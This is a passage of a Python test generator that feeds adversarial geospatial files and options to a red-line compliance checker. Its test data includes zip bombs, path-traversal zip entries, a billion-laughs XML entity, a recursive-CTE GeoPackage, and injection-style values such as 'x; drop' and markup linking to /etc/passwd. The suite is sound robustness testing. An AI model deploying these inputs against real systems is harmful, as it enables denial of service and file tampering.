    p.write_text(json.dumps({"type": "Feature", "properties": {}, "geometry": {
        "type": "Point", "coordinates": [c_ll.x, c_ll.y]}}).replace(str(c_ll.y), "1e400"))
    add_check("geometry/overflow-coords", cat, "GeoJSON with a 1e400 coordinate", [p], "error")
    z = json.loads(shapely.to_geojson(red))
    z["coordinates"] = [[[x, y, 1000.0, 7.0] for x, y in r] for r in z["coordinates"]]
    add_check("geometry/4d-coords", cat, "GeoJSON polygon with 4 coordinates per position",
              [gj("4d.geojson", [red], raw_geoms={0: z})], "hit|error")
    add_check("geometry/null-geometry", cat, "a feature with null geometry",
              [gj("null.geojson", [None])], "error")
    add_check("geometry/empty-fc", cat, "an empty FeatureCollection",
              [gj("emptyfc.geojson", [])], "error")
    add_check("geometry/clean-then-red-features", cat, "two features: clean first, red second",
              [gj("two.geojson", [clean, red])], "hit")
    gc = shapely.GeometryCollection([red, c_ll])
    add_check("geometry/collection-mixed", cat, "a GeometryCollection of a polygon and a point",
              [gj("gc.geojson", [gc])], "hit|error")
    add_check("geometry/old-crs-member", cat, "GeoJSON with a 2008-style crs member EPSG:4524 and "
              "GK coordinates", [gj("gk.geojson", [K.red_gk], crs="urn:ogc:def:crs:EPSG::4524")],
              "hit|error")
    swapped = shapely.transform(red, lambda xy: xy[:, ::-1])
    add_check("geometry/latlon-swapped", cat, "GeoJSON with (lat, lon) positions",
              [gj("swapped.geojson", [swapped])], "hit|error")
    deep = ('{"type":"GeometryCollection","geometries":[' * 3000
            + f'{{"type":"Point","coordinates":[{c_ll.x},{c_ll.y}]}}' + "]}" * 3000)
    p = _w(wpath("geometry", "deep.geojson"), '{"type":"FeatureCollection","features":[{"type":'
           f'"Feature","properties":{{}},"geometry":{deep}}}]}}')
    add_check("geometry/deep-collection", cat, "GeometryCollection nested 3,000 deep", [p],
              "hit|error")
    p = wpath("geometry", "padded.geojson")
    p.write_text(" " * 60_000_000 + json.dumps(json.loads(shapely.to_geojson(red))))
    add_check("geometry/60mb-whitespace", cat, "a 60 MB GeoJSON that is mostly whitespace", [p],
              "hit|error", weight=6)
    many = [K.to_ll(shapely.box(K.clean_gk.bounds[0] + 3 * (i % 100),
                                K.clean_gk.bounds[1] + 3 * (i // 100),
                                K.clean_gk.bounds[0] + 3 * (i % 100) + 1,
                                K.clean_gk.bounds[1] + 3 * (i // 100) + 1)) for i in range(3000)]
    add_check("geometry/3000-features-clean", cat, "3,000 tiny clean features in one file",
              [gj("many.geojson", many)], "clean|error", weight=6)
    # shapefiles with odd CRS declarations
    custom = ('PROJCS["Custom GK CM 108",GEOGCS["CGCS2000",DATUM["China_2000",SPHEROID["CGCS2000",'
              '6378137,298.257222101]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]],'
              'PROJECTION["Transverse_Mercator"],PARAMETER["latitude_of_origin",0],'
              'PARAMETER["central_meridian",108],PARAMETER["scale_factor",1],'
              'PARAMETER["false_easting",500000],PARAMETER["false_northing",0],UNIT["metre",1]]')
    plain = shapely.transform(K.red_gk, lambda xy: xy - [36_000_000, 0])
    s = write_shp(wpath("geometry", "custom", "red.shp"), gdf([plain], crs=None))
    s.with_suffix(".prj").write_text(custom)
    add_check("geometry/shp-custom-prj", cat, "shapefile with a custom (non-EPSG) GK .prj", [s],
              "hit|error")
    s = write_shp(wpath("geometry", "noprj-prefixed", "red.shp"), gdf([K.red_gk], crs=None))
    add_check("geometry/shp-no-prj-prefixed", cat, "shapefile without .prj, zone-prefixed GK",
              [s], "hit|error")
    s = write_shp(wpath("geometry", "noprj-plain", "red.shp"), gdf([plain], crs=None))
    add_check("geometry/shp-no-prj-plain", cat, "shapefile without .prj, GK without prefix",
              [s], "hit|error")
    add_check("geometry/crs-junk", cat, "--crs '+proj=junk'",
              [s, "--crs", "+proj=junk +no_defs"], "error")
    add_check("geometry/crs-4326-for-gk", cat, "--crs EPSG:4326 for GK metres",
              [s, "--crs", "EPSG:4326"], "error")
    add_check("geometry/crs-pipeline", cat, "--crs given a PROJ pipeline",
              [s, "--crs", "+proj=pipeline +step +proj=axisswap +order=2,1"], "hit|error")
    add_check("geometry/coord-sys-on-gk", cat, "--coord-sys bd09 on projected metres",
              [s, "--crs", "EPSG:4545", "--coord-sys", "bd09"], "hit|error")
    # other formats as controls
    add_check("geometry/kml-red", cat, "red box as KML (control)",
              [_w(wpath("geometry", "red.kml"), kml_text([[red]]))], "hit")
    pq = wpath("geometry", "red.parquet")
    gdf([red]).to_parquet(pq)
    add_check("geometry/parquet-red", cat, "red box as GeoParquet (control)", [pq], "hit")
    gp = write_gpkg_layers(wpath("geometry", "red.gpkg"), {"red": gdf([red])})
    add_check("geometry/gpkg-red", cat, "red box as GeoPackage (control)", [gp], "hit")
    add_check("geometry/gpkg-layer-missing", cat, "--layer that does not exist",
              [gp, "--layer", "nope"], "error")
    add_check("geometry/encoding-junk", cat, "--encoding no-such-codec on a shapefile",
              [s, "--encoding", "no-such-codec"], "error")
    p = wpath("geometry", "noext")
    p.write_text(shapely.to_geojson(red))
    add_check("geometry/no-extension", cat, "a GeoJSON file without extension", [p], "hit|error")
    p = wpath("geometry", "geojson.txt")
    p.write_text(shapely.to_geojson(red))
    add_check("geometry/geojson-named-txt", cat, "GeoJSON text in a .txt file", [p], "error")
    p = wpath("geometry", "txt.geojson")
    p.write_bytes(txt_doc(K.red_gk).render())
    add_check("geometry/txt-named-geojson", cat, "部标 TXT in a .geojson file", [p], "error")
    add_check("geometry/directory", cat, "a directory as the footprint", [wpath("geometry", "d",
                                                                                  "x").parent],
              "error")
    add_check("geometry/missing-file", cat, "a file that does not exist",
              [WORK.files / "geometry" / "nope.geojson"], "error")
    p = wpath("geometry", "empty.geojson")
    p.write_bytes(b"")
    add_check("geometry/empty-file", cat, "an empty .geojson", [p], "error")
    # options
    redf = WORK.files / "geometry" / "red.geojson"
    cleanf = WORK.files / "geometry" / "clean.geojson"
    add_check("geometry/energy-negative", cat, "--energy -62000 with a 两高 industry (must be refused)",
              [cleanf, "--industry", "C2614", "--nature", "新建", "--energy", "-62000"], "error")
    pl = pingliang_priority_site(rng)
    if pl is not None:
        plf = write_geojson(wpath("geometry", "pingliang-priority.geojson"), [pl])

        def energy_sign():
            attrs = ["--industry", "C2614", "--nature", "新建", "--json"]
            neg = run_cli(["check", plf, *attrs, "--energy", "-62000"])
            b = base_outcome(neg)
            if b:
                return b
            if neg.rc != 0:
                return refusal(neg, "error")
            pos = run_cli(["check", plf, *attrs, "--energy", "62000"])
            dp, dn = parse_json(pos.stdout) or {}, parse_json(neg.stdout) or {}
            ap = (dp.get("access") or {}).get("outcome")
            an = (dn.get("access") or {}).get("outcome")
            return "silent wrong", (f"accepted --energy -62000: 准入清单 {an} (verdict "
                                    f"{dn.get('state')}), against {ap} ({dp.get('state')}) with "
                                    "+62000 (甘肃 两高 threshold 10,000 tce, priority unit)")
        add("geometry/energy-negative-pingliang", cat, "--energy -62000, C2614 新建, in a 平凉 "
            "priority control unit (两高 threshold 10,000 tce): must be refused", energy_sign,
            "error", 6)
    for v in ("nan", "inf", "-inf"):
        add_check(f"geometry/energy-{v}", cat, f"--energy {v}", [cleanf, "--industry", "C2614",
                                                                  "--energy", v], "error")
    for opt in ("--tolerance", "--min-area", "--radius"):
        for v in ("inf", "nan"):
            add_check(f"geometry/{opt[2:]}-{v}", cat, f"{opt} {v} (must be refused)",
                      [redf, opt, v], "error")
        add_check(f"geometry/{opt[2:]}-negative", cat, f"{opt} -1", [redf, opt, "-1"], "error")
    add_check("geometry/radius-huge", cat, "--radius 1e9", [redf, "--radius", "1e9"], "hit|error",
              weight=6)

    def hidden(opt, v):
        def fn():
            run = run_cli(["check", redf, opt, v, "--json"])
            b = base_outcome(run)
            if b:
                return b
            if run.rc != 0:
                return refusal(run, "hit|error")
            d = parse_json(run.stdout) or {}
            o, why, _ = judge_result(d, "hit")
            if o == "correct":
                return o, why
            notes = [n for lr in d.get("layers", []) if lr.get("kind") == "eco_redline"
                     for n in lr.get("notes", [])] + d.get("warnings", [])
            if notes:
                return "correct", f"{why}; only noted: {notes[0][:120]}", \
                    f"{opt} {v} turns a red-line overlap into a note"
            return "silent wrong", f"{opt} {v}: {why}, with no note or warning"
        return fn

    add("geometry/min-area-hides", cat, "--min-area 1e9 on a footprint inside the red line",
        hidden("--min-area", "1e9"), "hit")
    add("geometry/tolerance-hides", cat, "--tolerance 1e9 on a footprint inside the red line",
        hidden("--tolerance", "1e9"), "hit")
    for opt, v in (("--activity", "99"), ("--activity", "[/]"), ("--major-project", "x; drop"),
                   ("--industry", "[bold]C26"), ("--industry", "ZZ9999"), ("--nature", "拆除"),
                   ("--project-type", "{{7*7}}")):
        add_check(f"geometry/attr{opt}-{_sanitize(v)}", cat, f"{opt} {v!r}", [redf, opt, v],
                  "error")
    for v in ("[/]", "[bold]x", "[link=file:///etc/passwd]x[/link]"):
        add_check(f"geometry/markup-name-{_sanitize(v)}", cat,
                  f"rich markup {v!r} as --name (table output)", [redf, "--name", v], "any",
                  as_json=False)
    p = wpath("geometry", "[bold]x[", "[/]red.geojson")
    write_geojson(p, [red])
    add_check("geometry/markup-path", cat, "rich markup in the footprint path (table output)",
              [p], "any", as_json=False)
    add_check("geometry/markup-map-path", cat, "rich markup in the --map path",
              [redf, "--map", wpath("geometry", "[/]m.html"), "--basemap", "none"], "hit")
    # random WKT rows, screened in batches
    gen_wkt_rows(rng)


def pingliang_priority_site(rng):
    """A 100 m box well inside a 平凉 priority (优先保护) control unit, clear of farmland."""
    import shapely

    rows = _layer_rows("control_unit", "pingliang")
    if not rows:
        return None
    units = _read_layer(rows[0])
    field_ = (rows[0]["fields"].get("unit_class") or [None])[0]
    if field_ not in units.columns:
        return None
    pri = units[units[field_].astype(str) == "1"].to_crs(4524)
    # (the synthetic priority units are mostly red line: only keep clear of farmland)
    others = [_read_layer(r).to_crs(4524) for r in _layer_rows("farmland", "pingliang")]
    for geom in sorted(pri.geometry.values, key=lambda g: -g.area):
        core = geom.buffer(-150)
        if core.is_empty:
            continue
        shapely.prepare(core)
        x0, y0, x1, y1 = core.bounds
        for _ in range(300):
            p = shapely.Point(rng.uniform(x0, x1), rng.uniform(y0, y1))
            if core.contains(p) and all(len(o.sindex.query(p.buffer(80), predicate="intersects"))
                                        == 0 for o in others):
                return K.to_ll(shapely.box(p.x - 50, p.y - 50, p.x + 50, p.y + 50))
    return None


def _w(path: Path, text, mode="w"):
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, "utf-8")
    return path


def _number_format(rng):
    """One number format per WKT (a ring's first and last point must print the same)."""
    r = rng.random()
    if r < 0.7:
        nd = rng.choice([6, 8, 9, 12, 15])
        return lambda v: f"{v:.{nd}f}"
    if r < 0.8:
        return lambda v: f"{v:.9e}"
    if r < 0.9:
        return lambda v: "+" + f"{v:.9f}"
    return repr


def rand_wkt(rng):
    """(wkt, expectation, description) of a random WKT around the red or the clean site."""
    import shapely

    red = rng.random() < 0.75
    base = "hit" if red else "clean"
    g = K.to_ll(rand_poly_gk(K.red_gk if red else K.clean_gk, rng))
    pts = shapely.get_coordinates(g.exterior).tolist()
    c = g.centroid
    num = _number_format(rng)

    def ring(p, extra=""):
        return "(" + ", ".join(f"{num(x)} {num(y)}{extra}" for x, y in p) + ")"

    kind = rng.choice(["polygon", "multipolygon", "point", "multipoint", "linestring", "gc",
                       "curvepolygon", "circularstring", "compoundcurve", "multisurface",
                       "polygon_z", "polygon_m", "polygon_zm", "triangle", "tin",
                       "polyhedral", "ewkt", "empty_part", "empty_part_first", "hole",
                       "swapped", "gk", "densified", "repeated"])
    exp = f"{base}|error"
    if kind == "polygon":
        w = f"POLYGON ({ring(pts)})"
        exp = base
    elif kind == "multipolygon":
        w = f"MULTIPOLYGON (({ring(pts)}))"
        exp = base
    elif kind == "point":
        w = f"POINT ({num(c.x)} {num(c.y)})"
        exp = base
    elif kind == "multipoint":
        w = "MULTIPOINT (" + ", ".join(f"({num(x)} {num(y)})" for x, y in pts[:-1]) + ")"
    elif kind == "linestring":
        w = f"LINESTRING {ring(pts[:-1])}"
    elif kind == "gc":
        w = f"GEOMETRYCOLLECTION (POLYGON ({ring(pts)}), POINT ({num(c.x)} {num(c.y)}))"
    elif kind == "curvepolygon":
        w = f"CURVEPOLYGON (COMPOUNDCURVE (CIRCULARSTRING {ring(pts[:3])}, {ring(pts[2:])}))"
        if len(pts) < 5:
            w = f"CURVEPOLYGON ({ring(pts)})"
    elif kind == "circularstring":
        w = f"CIRCULARSTRING {ring(pts[:3])}"
    elif kind == "compoundcurve":
        w = f"COMPOUNDCURVE (CIRCULARSTRING {ring(pts[:3])}, {ring(pts[2:4])})"
    elif kind == "multisurface":
        w = f"MULTISURFACE (CURVEPOLYGON ({ring(pts)}), (({ring(pts)[1:-1]})))"
    elif kind == "polygon_z":
        w = f"POLYGON Z ({ring(pts, ' 1200.5')})"
    elif kind == "polygon_m":
        w = f"POLYGON M ({ring(pts, ' 3')})"
    elif kind == "polygon_zm":
        w = f"POLYGON ZM ({ring(pts, ' 1200 3')})"
    elif kind == "triangle":
        tri = pts[:3] + [pts[0]]
        w = f"TRIANGLE ({ring(tri)})"
    elif kind == "tin":
        tri = pts[:3] + [pts[0]]
        w = f"TIN ((({', '.join(f'{x} {y}' for x, y in tri)})))"
    elif kind == "polyhedral":
        w = f"POLYHEDRALSURFACE Z ((({', '.join(f'{x} {y} 0' for x, y in pts)})))"
    elif kind == "ewkt":
        w = f"SRID=4490;POLYGON ({ring(pts)})"
    elif kind == "empty_part":
        w = f"MULTIPOLYGON (({ring(pts)}), EMPTY)"
    elif kind == "empty_part_first":
        w = f"MULTIPOLYGON (EMPTY, ({ring(pts)}))"
    elif kind == "hole":
        h = [(c.x - 1e-5, c.y - 1e-5), (c.x + 1e-5, c.y - 1e-5), (c.x + 1e-5, c.y + 1e-5),
             (c.x - 1e-5, c.y + 1e-5), (c.x - 1e-5, c.y - 1e-5)]
        w = f"POLYGON ({ring(pts)}, {ring(h)})"
        exp = base
    elif kind == "swapped":
        w = "POLYGON ((" + ", ".join(f"{num(y)} {num(x)}" for x, y in pts) + "))"
    elif kind == "gk":
        gk = shapely.get_coordinates(K.to_gk(g).exterior).tolist()
        w = "POLYGON ((" + ", ".join(f"{x:.3f} {y:.3f}" for x, y in gk) + "))"
    elif kind == "densified":
        dg = shapely.segmentize(g, 0.0000005)
        w = dg.wkt
    else:  # repeated points
        w = "POLYGON ((" + ", ".join(f"{x} {y}, {x} {y}" for x, y in pts) + "))"
    muts = []
    r = rng.random()
    if r < 0.15:
        w, _ = w.lower(), muts.append("lowercase")
    elif r < 0.25:
        w, _ = re.sub(r"\s*,\s*", lambda m: rng.choice([",", " ,\n", ",\t"]), w), \
            muts.append("whitespace")
    elif r < 0.33:
        w, _ = w[: rng.randint(5, max(6, len(w) - 2))], muts.append("truncated")
        exp = "error"
    elif r < 0.40:
        w, _ = w + rng.choice([" )", " junk", ";", " POINT (1 2)", "\x00"]), muts.append("trailing")
        exp = f"{base}|error"
    elif r < 0.46:
        tok = rng.choice(["NaN", "nan", "inf", "-inf", "1e400", "-1e400", "1e-400", "0x1p4"])
        w, _ = re.sub(r"\d+\.\d+", tok, w, count=1), muts.append(f"number {tok}")
        exp = f"{base}|error"
    elif r < 0.50:
        w, _ = w.replace("(", "((", 1), muts.append("unbalanced")
        exp = "error"
    elif r < 0.54:
        w, _ = w.replace(".", ",", 3), muts.append("decimal commas")
        exp = f"{base}|error"
    elif r < 0.57:
        w, _ = w.replace("-", "\u2212"), muts.append("unicode minus")
        exp = f"{base}|error"
    return w, exp, f"random WKT {kind}{'+' + '+'.join(muts) if muts else ''} " \
                   f"({'red line' if red else 'clean'})"


def gen_wkt_rows(rng):
    for i in range(OPTS.n_wkt):
        w, exp, desc = rand_wkt(rng)
        add_row(f"geometry/wkt-{i:03d}", "geometry", desc, {"wkt": w}, exp)
    # nesting depth
    c = K.red_ll.centroid
    for depth in (50, 1000, 100000):
        w = "GEOMETRYCOLLECTION (" * depth + f"POINT ({c.x} {c.y})" + ")" * depth
        add_row(f"geometry/wkt-nested-{depth}", "geometry",
                f"GEOMETRYCOLLECTION nested {depth} deep around a red-line point", {"wkt": w},
                "hit|error", alone=depth >= 1000)


# --------------------------------------------------------------------------- archives and containers


def judge_failopen(run: Run):
    """The red-line part is not the first one: a miss is silent unless warned or refused."""
    b = base_outcome(run)
    if b:
        return b
    if run.rc != 0:
        return refusal(run, "hit|error")
    d = parse_json(run.stdout) or {}
    o, why, _ = judge_result(d, "hit")
    if o == "correct":
        return o, why
    if d.get("warnings"):
        return "clear error", f"{why}; warned: {d['warnings'][0][:120]}", \
            "a multi-part input read partly, with a warning"
    pyw = [ln.strip() for ln in run.stderr.splitlines() if "Warning" in ln]
    return "silent wrong", ("only the first part was read: " + why +
                            (f" (only a library warning on stderr: {pyw[0][:100]})" if pyw else ""))


def add_failopen(cid, desc, path, extra=()):
    def fn():
        return judge_failopen(run_cli(["check", path, *extra, "--json"]))
    return add(cid, "archives", desc, fn, "hit")


def gpkg_recursive_view(path: Path, red):
    write_gpkg_layers(path, {"base": gdf([red])})
    con = sqlite3.connect(path)
    con.executescript("""
        CREATE VIEW loop AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)
            SELECT x AS fid, (SELECT geom FROM base LIMIT 1) AS geom FROM c;
        DELETE FROM gpkg_geometry_columns WHERE table_name = 'base';
        DELETE FROM gpkg_contents WHERE table_name = 'base';
        INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id)
            VALUES ('loop', 'features', 'loop', 4490);
        INSERT INTO gpkg_geometry_columns VALUES ('loop', 'geom', 'POLYGON', 4490, 0, 0);
    """)
    con.commit()
    con.close()
    return path


def dbf_claims(path: Path, nrec=4_000_000_000):
    raw = bytearray(path.read_bytes())
    raw[4:8] = struct.pack("<I", nrec)
    path.write_bytes(bytes(raw))


def gen_archives(rng):
    import shapely

    cat = "archives"
    red, clean = K.red_ll, K.clean_ll
    A = WORK.files / "archives"
    shp = write_shp(A / "red" / "red.shp", gdf([red], 名称=["红线内项目"]))
    gbk = write_shp(A / "gbk" / "red.shp", gdf([red], 名称=["红线内项目"]), encoding="GBK",
                    cpg=False)
    cshp = write_shp(A / "clean" / "clean.shp", gdf([clean], 名称=["干净项目"]))
    z = write_zip(A / "red-shp.zip", {p.name: p for p in shp_members(shp)})
    add_check("archives/zip-shp", cat, "zipped shapefile in the red line (control)", [z], "hit")
    z = write_zip(A / "gbk-shp.zip", {p.name: p for p in shp_members(gbk)})
    add_check("archives/zip-shp-gbk", cat, "zipped GBK shapefile without .cpg", [z], "hit")
    z = write_zip(A / "two-shp.zip", {**{"a_" + p.name: p for p in shp_members(cshp)},
                                      **{"b_" + p.name: p for p in shp_members(shp)}})
    add_failopen("archives/zip-two-shps", "zip with two shapefiles (clean first, red second)", z)
    z = write_zip(A / "sub-shp.zip", {"dir/sub/" + p.name: p for p in shp_members(shp)})
    add_check("archives/zip-shp-subfolder", cat, "zip with the shapefile in a sub-folder", [z],
              "hit")
    rg = write_geojson(A / "red.geojson", [red])
    cg = write_geojson(A / "clean.geojson", [clean])
    z = write_zip(A / "geojson.zip", {"red.geojson": rg})
    add_check("archives/zip-geojson", cat, "zip holding one GeoJSON", [z], "hit|error")
    z = write_zip(A / "two-geojson.zip", {"a.geojson": cg, "b.geojson": rg})
    add_failopen("archives/zip-two-geojsons", "zip with two GeoJSONs (clean first, red second)", z)
    gp = write_gpkg_layers(A / "in.gpkg", {"red": gdf([red])})
    z = write_zip(A / "gpkg.zip", {"in.gpkg": gp})
    add_check("archives/zip-gpkg", cat, "zip holding a GeoPackage", [z], "hit|error")
    inner = write_zip(A / "inner.zip", {p.name: p for p in shp_members(shp)})
    z = write_zip(A / "nested.zip", {"inner.zip": inner, "readme.txt": b"see inner.zip"})
    add_failopen("archives/zip-nested", "zip inside a zip (red shapefile inside)", z)
    _w(A / "fake.zip", "this is not a zip file\n")
    add_check("archives/zip-fake", cat, "a text file named .zip", [A / "fake.zip"], "error")
    full = (A / "red-shp.zip").read_bytes()
    _w(A / "truncated.zip", full[: len(full) // 2])
    add_check("archives/zip-truncated", cat, "a zip cut in half", [A / "truncated.zip"], "error")
    if shutil.which("zip"):
        enc = A / "encrypted.zip"
        subprocess.run(["zip", "-q", "-j", "-P", "secret", str(enc), *map(str, shp_members(gbk))],
                       check=True)
        add_check("archives/zip-encrypted", cat, "a password-protected zip (shapefile, no .cpg)",
                  [enc], "error")
    z = write_zip(A / "no-dbf.zip", {p.name: p for p in shp_members(gbk) if p.suffix != ".dbf"})
    add_check("archives/zip-no-dbf", cat, "zipped shapefile without .dbf", [z], "hit|error")
    m = {p.name: p for p in shp_members(shp) if p.suffix != ".cpg"}
    z = write_zip(A / "cpg-junk.zip", {**m, "red.cpg": b"no-such-codec-9"})
    add_check("archives/zip-cpg-junk", cat, ".cpg naming an unknown encoding", [z], "hit|error")
    z = write_zip(A / "cpg-huge.zip", {**m, "red.cpg": b"U" * 20_000_000})
    add_check("archives/zip-cpg-huge", cat, "a 20 MB .cpg", [z], "hit|error")
    esc_dir = WORK.root / "escape-target"
    rel = os.path.relpath(esc_dir, A)
    z = write_zip(A / "traversal.zip", {f"{rel}/{p.name}": p for p in shp_members(gbk)})
    add_check("archives/zip-traversal", cat, "zip members named ../../escape-target/red.* (no .cpg)",
              [z], "hit|error", cwd=A, scan=Scan(not_created=[esc_dir / "red.dbf",
                                                              esc_dir / "red.shp"]))
    absd = WORK.root / "abs-target"
    z = write_zip(A / "absolute.zip", {f"{absd}/{p.name}": p for p in shp_members(gbk)})
    add_check("archives/zip-absolute-names", cat, "zip members with absolute names (no .cpg)",
              [z], "hit|error", scan=Scan(not_created=[absd / "red.dbf"]))
    z = write_zip(A / "many.zip", {**{f"e/{i}.txt": b"" for i in range(20000)},
                                   **{p.name: p for p in shp_members(shp)}},
                  compress=zipfile.ZIP_STORED)
    add_check("archives/zip-20000-entries", cat, "zip with 20,000 entries and a shapefile", [z],
              "hit|error", weight=5)
    # bombs (under the address-space cap they must end in a clear error, not MemoryError)
    g1 = write_shp(A / "bombsrc" / "x.shp", gdf([red], name=["x"]), cpg=False)
    dbf = g1.with_suffix(".dbf").read_bytes()
    hlen = int.from_bytes(dbf[8:10], "little")
    rlen = int.from_bytes(dbf[10:12], "little")
    nrec = (OPTS.bomb_mb << 20) // rlen
    head = bytearray(dbf[:hlen])
    head[4:8] = struct.pack("<I", nrec)
    rec = b" " * rlen  # deleted-flag blank, empty strings: ~1000:1 under deflate
    bomb = A / "bomb-dbf.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("x.shp", g1.read_bytes())
        zf.writestr("x.shx", g1.with_suffix(".shx").read_bytes())
        zf.writestr("x.prj", g1.with_suffix(".prj").read_bytes())
        with zf.open("x.dbf", "w", force_zip64=True) as f:
            f.write(bytes(head))
            block = rec * max(1, (8 << 20) // rlen)
            left = nrec
            per = len(block) // rlen
            while left > 0:
                n = min(left, per)
                f.write(block[: n * rlen])
                left -= n
    add_check("archives/zip-bomb-dbf", cat, f"zip bomb: {bomb.stat().st_size / 1e6:.1f} MB zip, "
              f"DBF inflating to {OPTS.bomb_mb} MB (no .cpg)", [bomb], "hit|error", weight=30)
    gb = deflate_bomb(A / "bomb-geojson.zip", "a.geojson",
                      b'{"type":"FeatureCollection","features":[', OPTS.bomb_mb << 20,
                      tail=b']}')
    add_check("archives/zip-bomb-geojson", cat, f"zip bomb: GeoJSON inflating to {OPTS.bomb_mb} MB",
              [gb], "error", weight=30)
    kb = deflate_bomb(A / "bomb.kmz", "doc.kml", kml_text([[red]]).split("<Document>")[0].encode()
                      + b"<Document><!--", OPTS.bomb_mb << 20, fill=b" ",
                      tail=b"-->" + kml_text([[red]]).split("<Document>")[1].encode())
    add_check("archives/kmz-bomb", cat, f"KMZ bomb: doc.kml inflating to {OPTS.bomb_mb} MB",
              [kb], "hit|error", weight=30)
    # KML / KMZ with several parts
    k_red = kml_text([[red]])
    add_check("archives/kmz", cat, "KMZ in the red line (control)",
              [write_zip(A / "red.kmz", {"doc.kml": k_red.encode()})], "hit")
    add_failopen("archives/kmz-two-kmls", "KMZ with two KML files (clean a.kml, red b.kml)",
                 write_zip(A / "two.kmz", {"a.kml": kml_text([[clean]]).encode(),
                                           "b.kml": k_red.encode()}))
    add_failopen("archives/kmz-kml-in-folder", "KMZ: clean doc.kml and red files/extra.kml",
                 write_zip(A / "nested.kmz", {"doc.kml": kml_text([[clean]]).encode(),
                                              "files/extra.kml": k_red.encode()}))
    add_check("archives/kmz-no-kml", cat, "KMZ without a .kml",
              [write_zip(A / "nokml.kmz", {"a.txt": b"x"})], "error")
    _w(A / "fake.kmz", k_red)
    add_check("archives/kmz-fake", cat, "a plain KML named .kmz", [A / "fake.kmz"], "hit|error")
    add_failopen("archives/kml-two-folders", "KML with two folders (clean first, red second)",
                 _w(A / "two-folders.kml", kml_text([[clean], [red]])))
    add_failopen("archives/kml-three-folders", "KML with three folders (red last)",
                 _w(A / "three-folders.kml", kml_text([[clean], [clean], [red]])))
    add_check("archives/kml-two-placemarks", cat, "KML, one folder, clean and red placemarks",
              [_w(A / "one-folder.kml", kml_text([[clean, red]]))], "hit")
    nested = k_red.replace("<Folder><name>folder1</name>",
                           "<Folder><name>outer</name><Folder><name>inner</name>") \
        .replace("</Folder>", "</Folder></Folder>")
    nested = nested.replace("<Document><name>doc</name>", "<Document><name>doc</name>"
                            + kml_text([[clean]]).split("<Document><name>doc</name>")[1]
                            .split("</Document>")[0])
    add_failopen("archives/kml-nested-folders", "KML: a clean folder, then the red one nested in "
                 "another folder", _w(A / "nested-folders.kml", nested))
    lol = '<!DOCTYPE kml [<!ENTITY a "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>\n"
    add_check("archives/kml-billion-laughs", cat, "KML with a billion-laughs entity in a name",
              [_w(A / "laughs.kml", kml_text([[red]], doctype=lol, names=["&j;"]))], "hit|error",
              weight=10)
    outside_kml = _w(WORK.outside / "far-red.kml", k_red)
    nl = ('<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2">'
          '<Document><Placemark><name>c</name><Polygon><outerBoundaryIs><LinearRing><coordinates>'
          + " ".join(f"{x},{y}" for x, y in shapely.get_coordinates(clean.exterior)) +
          '</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>'
          f'<NetworkLink><Link><href>{outside_kml.as_uri()}</href></Link></NetworkLink>'
          '</Document></kml>')
    add_check("archives/kml-networklink", cat, "KML with a NetworkLink to a local file elsewhere",
              [_w(A / "netlink.kml", nl)], "clean|error")
    # GeoPackages
    add_failopen("archives/gpkg-two-layers", "GeoPackage with two layers (clean, then red)",
                 write_gpkg_layers(A / "two.gpkg", {"a_clean": gdf([clean]), "b_red": gdf([red])}))
    add_failopen("archives/gpkg-red-last", "GeoPackage with three layers, red last",
                 write_gpkg_layers(A / "three.gpkg", {"a": gdf([clean]), "b": gdf([clean]),
                                                      "c": gdf([red])}))
    add_failopen("archives/gpkg-empty-first", "GeoPackage: an empty layer, then the red one",
                 write_gpkg_layers(A / "emptyfirst.gpkg", {"a": gdf([], pid=[]),
                                                           "b": gdf([red])}))
    add_check("archives/gpkg-layer-option", cat, "--layer picks the red layer (control)",
              [A / "two.gpkg", "--layer", "b_red"], "hit")
    g = (A / "two.gpkg").read_bytes()
    _w(A / "truncated.gpkg", g[: len(g) // 3])
    add_check("archives/gpkg-truncated", cat, "a GeoPackage cut to a third", [A / "truncated.gpkg"],
              "error")
    add_check("archives/gpkg-recursive-view", cat, "GeoPackage whose only layer is a view over an "
              "endless recursive CTE", [gpkg_recursive_view(A / "loop.gpkg", red)], "hit|error",
              dos=True)
    pq = A / "red.parquet"
    gdf([red]).to_parquet(pq)
    b = bytearray(pq.read_bytes())
    for i in range(len(b) // 3, len(b) // 3 + 64):
        b[i] = rng.randrange(256)
    _w(A / "corrupt.parquet", bytes(b))
    add_check("archives/parquet-corrupt", cat, "GeoParquet with 64 corrupted bytes",
              [A / "corrupt.parquet"], "hit|error")
    _w(A / "text.parquet", "not parquet")
    add_check("archives/parquet-text", cat, "a text file named .parquet", [A / "text.parquet"],
              "error")
    # DBF claiming 4e9 records
    s4 = write_shp(A / "dbf4e9" / "red.shp", gdf([red], name=["x"]), cpg=False)
    dbf_claims(s4.with_suffix(".dbf"))
    add_check("archives/dbf-4e9-records", cat, f"DBF header claiming 4e9 records "
              f"({s4.with_suffix('.dbf').stat().st_size} bytes, no .cpg)", [s4], "hit|error",
              dos=True)
    s5 = write_shp(A / "dbf4e9cpg" / "red.shp", gdf([red], name=["x"]))
    dbf_claims(s5.with_suffix(".dbf"))
    add_check("archives/dbf-4e9-records-cpg", cat, "DBF header claiming 4e9 records, with .cpg",
              [s5], "hit|error", weight=20)
    s6 = write_shp(A / "noshx" / "red.shp", gdf([red]))
    s6.with_suffix(".shx").unlink()
    add_check("archives/shp-no-shx", cat, "shapefile without .shx", [s6], "hit|error")
    s7 = write_shp(A / "twofeat" / "x.shp", gdf([clean, red]))
    add_check("archives/shp-two-features", cat, "shapefile: clean feature, then red (control)",
              [s7], "hit")
    fgb = A / "red.fgb"
    gdf([red]).to_file(fgb, driver="FlatGeobuf", engine="pyogrio")
    add_check("archives/flatgeobuf", cat, "FlatGeobuf in the red line", [fgb], "hit|error")
    # special files as footprints
    fifo = A / "fifo.geojson"
    os.mkfifo(fifo)
